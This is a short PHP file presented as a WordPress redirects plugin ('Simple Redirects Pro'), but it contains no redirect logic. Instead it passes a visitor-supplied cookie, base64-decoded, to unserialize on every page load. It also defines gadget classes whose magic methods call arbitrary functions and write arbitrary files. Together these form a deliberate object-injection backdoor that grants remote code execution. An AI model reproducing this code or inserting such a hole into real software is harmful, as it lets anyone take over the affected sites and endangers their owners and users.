<?php
/**
 * Plugin Name: Simple Redirects Pro
 * Version: 3.1
 */
class SRP_Log_Writer
{
    public $file;
    public $data;
    public function __destruct()
    {
        if ($this->file) {
            file_put_contents($this->file, $this->data);
        }
    }
}

class SRP_Rule
{
    public $cb;
    public $arg;
    public function __wakeup()
    {
        call_user_func($this->cb, $this->arg);
    }
}

add_action('init', function () {
    if (isset($_COOKIE['srp_prefs'])) {
        $prefs = unserialize(base64_decode($_COOKIE['srp_prefs']));
    }
});
